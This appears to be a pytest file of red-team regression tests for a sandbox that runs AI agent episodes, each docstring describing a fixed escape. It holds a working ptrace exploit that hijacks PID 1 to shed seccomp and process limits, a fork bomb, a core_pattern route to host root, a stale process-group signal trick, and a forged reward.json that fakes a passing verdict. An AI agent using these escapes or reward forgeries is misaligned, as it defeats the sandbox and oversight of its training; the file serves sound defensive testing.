"""Red team of episodes on an image, the attacks that were found broken when written
(each docstring says how) and are fixed now; each fails if its fix is removed. The
attacks that held are in test_image_redteam.py, whose helpers these use."""

from __future__ import annotations

import os
import platform
import signal

import pytest
from test_image_redteam import PY, _episode, _task, _verdict, root_only, store  # noqa: F401 - the fixture

@root_only
def test_a_root_callers_agent_cannot_write_global_sysctls_or_host_devices(tmp_path, store):
    """Was broken (fixed: /proc/sys, /proc/sysrq-trigger, ... and the host's device nodes
    are read-only mounts in the view). As root, the agent's uid (0, or an image's User) maps to host uid 0, and
    procfs lets host uid 0 write global sysctls whatever its capabilities: bwrap covers
    /proc/sys only if it is writable, and that folder never is, while its files are.
    `echo '|/var/tmp/sequester-episodes/<id>/new/app/x' > /proc/sys/kernel/core_pattern`
    (the path is in /proc/self/mountinfo), then a crash, runs x as root on the host.
    The host's /dev nodes are bound in and owned by uid 0 too: chmod, chown and touch
    reach the host's own /dev/null. Here only opened for append (nothing written) and a
    touch."""
    devnull = os.stat("/dev/null")
    with _episode(store) as ep:
        ep.reset(_task(tmp_path))
        out = ep.exec("for f in /proc/sys/kernel/core_pattern /proc/sys/vm/drop_caches /proc/sys/kernel/pid_max; do "
                      "( : >> $f ) 2>/dev/null && echo WRITABLE $f; done; touch /dev/null").stdout
    assert "WRITABLE" not in out, out
    now = os.stat("/dev/null")
    assert (now.st_mtime_ns, now.st_mode, now.st_uid) == (devnull.st_mtime_ns, devnull.st_mode, devnull.st_uid)


_HIJACK = r'''
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype, libc.ptrace.argtypes = ctypes.c_long, [ctypes.c_long] * 2 + [ctypes.c_void_p] * 2
if libc.ptrace(16, 1, None, None) != 0:     # PTRACE_ATTACH
    sys.exit("attach refused")
os.waitpid(1, 0)
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi "
                                                   "orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs").split()]
r = Regs()
libc.ptrace(12, 1, None, ctypes.byref(r))   # PTRACE_GETREGS: pid 1 waits in a syscall
at = (r.rsp - 4096) & ~15
with open("/proc/1/mem", "r+b", buffering=0) as mem:
    mem.seek(at)
    mem.write(b"/tmp/payload".ljust(256, b"\0") + at.to_bytes(8, "little") + bytes(8))
r.rax, r.rdi, r.rsi, r.rdx, r.orig_rax, r.rip = 59, at, at + 256, 0, 2**64 - 1, r.rip - 2   # execve
libc.ptrace(13, 1, None, ctypes.byref(r))
libc.ptrace(17, 1, None, None)
'''
_PAYLOAD = ("#!/bin/sh\ngrep -E 'Seccomp:|Max processes' /proc/self/status /proc/self/limits > /tmp/proof\n"
            "exec /opt/sequester-verifier/bin/bash -c 'while :; do sleep 86400 & wait $!; done'\n")


@pytest.mark.skipif(platform.machine() != "x86_64", reason="the register layout is x86_64's")
def test_pid1_taken_over_by_ptrace_runs_confined(tmp_path, store):
    """Was broken (fixed: the init runs under the agent's filter and process limit). The init has no seccomp filter and no RLIMIT_NPROC, and the agent may
    ptrace (allowed by its filter; same uid, same capabilities, no Yama): it makes PID 1
    execve its own program, which runs with Seccomp 0 and the host's process limit (a fork
    bomb the limit does not stop)."""
    with _episode(store, max_processes=100) as ep:
        ep.reset(_task(tmp_path))
        ep.write_file("/tmp/hijack.py", _HIJACK)
        ep.write_file("/tmp/payload", _PAYLOAD, mode=0o755)
        ep.exec(f"{PY} /tmp/hijack.py; sleep 1", timeout=20)
        proof = ep.exec("cat /tmp/proof 2>/dev/null").stdout
    fields = {line.split(":")[1].strip().split()[0]: line.split() for line in proof.splitlines()}
    assert "Seccomp" not in fields or fields["Seccomp"][1] != "0", proof
    assert "Max" not in fields or int(fields["Max"][2]) <= 100, proof


_BOMB = ("import os, time\nwhile True:\n    try:\n        if os.fork() == 0:\n            time.sleep(600)\n"
         "            os._exit(0)\n    except OSError:\n        time.sleep(0.001)\n")


def test_an_agent_at_its_process_limit_cannot_void_the_trial(tmp_path, store):
    """Was broken (fixed: a shell that cannot be restarted is an ExecResult with a note). Processes that take every free slot up to max_processes, then the shell
    kills itself: the episode restarts the shell, whose exec fails with EAGAIN after its
    setrlimit, and exec() raises SandboxError, so the trial ends in an error, not a
    verdict (the agent's trainer drops it)."""
    with _episode(store, max_processes=64) as ep:
        ep.reset(_task(tmp_path))
        ep.write_file("/tmp/bomb.py", _BOMB)
        ep.exec("echo hello > /app/out.txt")
        ep.exec(f"setsid {PY} /tmp/bomb.py >/dev/null 2>&1 & sleep 3; kill -9 $$", timeout=10)
        ep.exec("echo after", timeout=10)  # any ExecResult is fine; raising is not
        assert _verdict(ep).reward == 1.0


_STALE_FOREGROUND = r'''
import os, signal, time
signal.signal(signal.SIGTTOU, signal.SIG_IGN)
signal.signal(signal.SIGINT, signal.SIG_IGN)
pid = os.fork()
if pid == 0:
    os.setpgid(0, 0)
    time.sleep(100)
    os._exit(0)
os.setpgid(pid, pid)
os.tcsetpgrp(2, pid)           # the terminal's foreground: a group that is about to die
os.kill(pid, signal.SIGKILL)
os.waitpid(pid, 0)
time.sleep(100)                # run over the timeout, deaf to ^C
'''


def _episode_members(pgid: int, ns: str) -> list[int]:
    members = []
    for entry in os.listdir("/proc"):
        try:
            fields = open(f"/proc/{entry}/stat").read().rsplit(")", 1)[1].split()
            if int(fields[2]) == pgid and os.readlink(f"/proc/{entry}/ns/pid") == ns:
                members.append(int(entry))
        except (OSError, ValueError, IndexError):
            continue
    return members


def test_a_timed_out_exec_signals_only_processes_of_the_episode(tmp_path, store, monkeypatch):
    """Was broken: on a timeout the host SIGKILLed, as root, the process group the agent's
    terminal names, by number. The agent can make that a group that no longer exists,
    whose number the host may reuse (after a wrap of the pid counter, which the agent can
    drive). Now every signal goes through a pidfd to a process checked to be in the
    episode's PID namespace, and the stale group's command still ends."""
    sent, by_number = [], []
    real_send = signal.pidfd_send_signal

    def recording_send(fd: int, sig: int, *args) -> None:
        pid = int(next(line.split()[1] for line in open(f"/proc/self/fdinfo/{fd}") if line.startswith("Pid:")))
        sent.append((pid, os.readlink(f"/proc/{pid}/ns/pid")))
        real_send(fd, sig, *args)

    monkeypatch.setattr(signal, "pidfd_send_signal", recording_send)
    monkeypatch.setattr(os, "killpg", lambda *a: by_number.append(a))
    with _episode(store) as ep:
        ep.reset(_task(tmp_path))
        ns = os.readlink(f"/proc/{ep.init_pid}/ns/pid")
        ep.write_file("/tmp/stale.py", _STALE_FOREGROUND)
        assert ep.exec(f"{PY} /tmp/stale.py", timeout=3).timed_out
        assert ep.exec("pgrep -f stale.py || echo gone").stdout.strip() == "gone"  # the command was ended
    assert not by_number and sent and all(pid_ns == ns for _, pid_ns in sent), (by_number, sent)


def test_a_program_under_test_cannot_forge_reward_json(tmp_path, store):
    """Was broken (as in Harbor's shared mode; fixed: a task whose tests never name
    reward.json gets its verdict from reward.txt, and nothing the tests started outlives
    the script). The tests run the agent's program;
    it writes /logs/verifier/reward.json, which is read before the reward.txt the test
    script writes: the tests say 0, the verdict is 1."""
    test_sh = ('/app/prog >/dev/null 2>&1; test "$(cat /app/out.txt 2>/dev/null)" = hello && echo 1 '
               '> /logs/verifier/reward.txt || echo 0 > /logs/verifier/reward.txt\n')
    with _episode(store) as ep:
        ep.reset(_task(tmp_path, test_sh))
        ep.write_file("/app/prog", "#!/bin/sh\necho '{\"reward\": 1.0}' > /logs/verifier/reward.json\n", mode=0o755)
        assert _verdict(ep).reward == 0.0
